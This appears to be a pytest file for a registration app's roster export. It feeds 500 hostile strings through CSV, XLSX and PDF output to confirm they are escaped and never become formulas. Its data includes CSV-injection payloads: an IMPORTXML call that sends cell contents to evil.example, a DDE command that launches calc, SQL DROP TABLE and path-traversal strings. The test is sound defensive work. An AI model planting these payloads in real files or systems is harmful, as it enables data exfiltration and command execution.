"""Five hundred hostile names and organisations go through every format whole, and do nothing."""

import csv
import io
import random
import re
import shutil
import subprocess
import unicodedata
import uuid
from collections.abc import Sequence
from pathlib import Path

import openpyxl
import pypdf
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from sqlalchemy import update

from registration import clock
from registration.database import db, transaction
from registration.models.events import Event
from registration.models.registrations import Registration
from registration.services import generation
from registration.services.events import get_prospectus
from registration.services.papers.fonts import MISSING, printable
from registration.services.rosters import RosterFormat, RosterKind, making
from registration.services.rosters.delimited import escaped, plain
from registration.services.rosters.spec import Spec
from registration.services.rosters.wanted import Wanted

MANY = 500
FIRST = (
    *"=+-@\t\r\n'\"",
    "＝",
    "＋",
    "－",
    "＠",
    "%0A=",
    " =",
    ";=",
    ",=",
    "\u202e=",
    "\u200b=",
    "\ufeff=",
    "",
)
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("https://evil.example","x")',
    "cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("https://evil.example?v=",A1),"//a")',
    "49 170 1234567",
    "<script>alert(1)</script>",
    "'; DROP TABLE registration; --",
    'a,b;c"d"e',
    "línea\nzwei\r\nthree",
    "&P &N &amp; &[Path]",
    "=" * 20,
    "الاسم الكامل",
    "Łukasz Şahin Ђорђе Ελένη",
    "👩‍🔬 🇩🇪 é",
    "007",
    "1e5",
    "2026-01-06",
    "TRUE",
    "Ж" * 60,
    "../../etc/passwd",
    "\\\\server\\share",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "_x000D_ _x0041_",
    "W" * 70,
)
RECALCULATES = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode"
oor:op="fuse"><value>0</value></prop></item></oor:items>
"""
SEMICOLON, COMMA = "59", "44"
AS_A_PERSON_OPENS_IT = "CSV:{},34,76,1,,0,false,true,false,false,false,-1,true"
"""Delimiter, quote, UTF-8 …; the last: what looks like a formula is one."""


def hostile() -> Sequence[str]:
    chance = random.Random(5)
    found = [f"{first}{body}"[:80] for first in FIRST for body in BODIES]
    return chance.sample(found, MANY)


@pytest.fixture
def named(event: Event) -> Sequence[str]:
    """The strings that people of the event are called by."""
    texts = hostile()
    with transaction():
        generation.generate(get_prospectus(event.slug), MANY)
        ids = db.session.query(Registration.id).order_by(Registration.id).all()
        for (registration_id,), text in zip(ids, texts, strict=True):
            db.session.execute(
                update(Registration)
                .where(Registration.id == registration_id)
                .values(family_name=text, organisation=text, support_needs=text)
            )
    return texts


def made(event: Event, folder: Path, file_format: RosterFormat) -> Path:
    path = folder / f"list-{file_format}.{'csv' if 'csv' in file_format else file_format}"
    wanted = Wanted(
        event_id=event.id,
        spec=Spec(kind=RosterKind.ATTENDANCE, columns=("family_name", "organisation", "state")),
        file_format=file_format,
        locale="de",
    )
    assert making.make(path, wanted, as_of=clock.now(), on_progress=lambda _: None) == MANY
    return path


def test_all_of_them_come_back_letter_by_letter(
    event: Event, named: Sequence[str], tmp_path: Path
) -> None:
    for file_format, delimiter in ((RosterFormat.CSV, ","), (RosterFormat.CSV_EXCEL, ";")):
        text = made(event, tmp_path, file_format).read_bytes().decode("utf-8-sig")
        _head, *rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        assert sorted(plain(row[0]) for row in rows) == sorted(named)
        assert not any(
            cell[:1] in set("=+-@\t\r\n＝＋－＠") for row in rows for cell in row if cell
        )
    sheet = openpyxl.load_workbook(made(event, tmp_path, RosterFormat.XLSX)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sorted(_without_cr(unescape(str(cell.value))) for cell in cells) == sorted(
        map(_without_cr, named)
    )


def _without_cr(text: str) -> str:
    """XML readers turn CR LF and CR into LF (XML 1.0 §2.11)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_all_of_them_can_be_read_and_copied_from_the_pdf(
    event: Event, named: Sequence[str], tmp_path: Path
) -> None:
    reader = pypdf.PdfReader(made(event, tmp_path, RosterFormat.PDF))
    text = _letters("".join(page.extract_text() for page in reader.pages))
    for name in named:
        assert _letters(printable(name)) in text
        if any(unicodedata.category(letter) == "So" for letter in name):
            assert MISSING in printable(name)  # a box stands for it


def _letters(text: str) -> str:
    """Return what is seen: lines break at spaces, and what has no shape is not told."""
    return "".join(
        sign for sign in text if not sign.isspace() and unicodedata.category(sign) != "Cf"
    )


@pytest.mark.parametrize("migrated_app", ["sqlite"], indirect=True)
def test_no_cell_becomes_a_formula_when_libreoffice_recalculates(
    event: Event, named: Sequence[str], tmp_path: Path
) -> None:
    if shutil.which("soffice") is None:
        pytest.skip("there is no soffice (LibreOffice)")
    naive = tmp_path / "naive.csv"
    naive.write_text('"=1+1"\n')
    parted = (naive, made(event, tmp_path, RosterFormat.CSV))
    assert formulas(*parted, delimiter=COMMA) == ["=1+1"]  # the naive one's: this test can fail
    assert formulas(made(event, tmp_path, RosterFormat.CSV_EXCEL), delimiter=SEMICOLON) == []
    assert formulas(made(event, tmp_path, RosterFormat.XLSX)) == []


def formulas(*paths: Path, delimiter: str = "") -> list[str]:
    """Return the formulas in files after LibreOffice has opened and calculated them."""
    folder = paths[0].parent
    profile = folder / "profile" / "user"
    profile.mkdir(parents=True, exist_ok=True)
    (profile / "registrymodifications.xcu").write_text(RECALCULATES)
    as_csv = [f"--infilter={AS_A_PERSON_OPENS_IT.format(delimiter)}"] if delimiter else []
    out = folder / "recalculated"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={profile.parent.as_uri()}",
            "--headless",
            *as_csv,
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            *map(str, paths),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    books = [openpyxl.load_workbook(out / f"{path.stem}.xlsx") for path in paths]
    cells = [cell for book in books for row in book.worksheets[0].iter_rows() for cell in row]
    return [str(cell.value) for cell in cells if cell.data_type == "f"]


@given(st.text())
def test_whatever_is_escaped_can_be_told_from_what_was_not(text: str) -> None:
    assert plain(escaped(text)) == text
    assert escaped(text)[:1] not in set("=+-@\t\r\n＝＋－＠") or not text


@pytest.mark.parametrize("title", ["../../etc/passwd", "a/b\\c", "CON", "Ä ö\u202eß", "=1+1", "💥"])
def test_names_of_files_are_safe_whatever_a_list_is_called(title: str) -> None:
    wanted = Wanted(
        event_id=uuid.uuid4(),
        spec=Spec(kind=RosterKind.ATTENDANCE, title=title, columns=("name",)),
        file_format=RosterFormat.PDF,
        locale="de",
        alliance_code="../X",
    )
    name = wanted.file_name("werkstatt", clock.now().date())
    assert re.fullmatch(r"werkstatt-[a-z0-9-]+-x-\d{4}-\d\d-\d\d\.pdf", name)
